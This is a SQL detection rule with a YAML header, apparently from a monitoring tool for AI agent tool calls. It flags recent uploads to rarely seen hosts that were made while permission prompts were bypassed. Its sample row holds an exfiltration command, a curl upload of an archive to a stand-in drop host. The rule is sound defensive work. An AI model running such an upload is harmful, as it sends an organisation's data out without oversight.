/*
title: Which destinations that hardly anybody knows were sent data while prompts were off?
level: medium
description: >
  Uploads of the last week, with prompts off, to a destination that at most two hosts of the organisation ever
  called, and not before this week.
columns:
  destination: the host or address
  hosts: how many hosts know it
  hostNames: which sent
  firstAt: the first call to it
  uploads: calls that send
  example: one of them
sample:
  destination: drop.example.net
  hosts: 1
  hostNames: mac-0117
  firstAt: '2026-11-18T14:05:40.000Z'
  uploads: 2
  example: 'curl -T out.tgz https://drop.example.net'
next_step: >
  Look the domain up (age, owner), read the call in its session, and block the domain while you do.
tags: [attack.t1567]
*/
WITH sent AS (
  SELECT DISTINCT "hostId", "toolCallId" FROM call_effects
  WHERE action = 'upload' AND "permissionMode" = 'bypassPermissions' AND "at" >= :now - INTERVAL 7 DAY
), known AS (
  SELECT destination, count(DISTINCT "hostId") AS hosts, min("at") AS "firstAt" FROM call_hosts GROUP BY destination
)
SELECT
  c.destination AS destination, max(k.hosts) AS hosts, :list(c."hostName") AS "hostNames", min(k."firstAt") AS "firstAt",
  count(DISTINCT c."toolCallId") AS uploads, min(c.argument) AS example
FROM call_hosts c
JOIN sent s ON s."hostId" = c."hostId" AND s."toolCallId" = c."toolCallId"
JOIN known k ON k.destination = c.destination
WHERE k.hosts <= 2 AND k."firstAt" >= :now - INTERVAL 7 DAY
GROUP BY c.destination
ORDER BY uploads DESC, destination
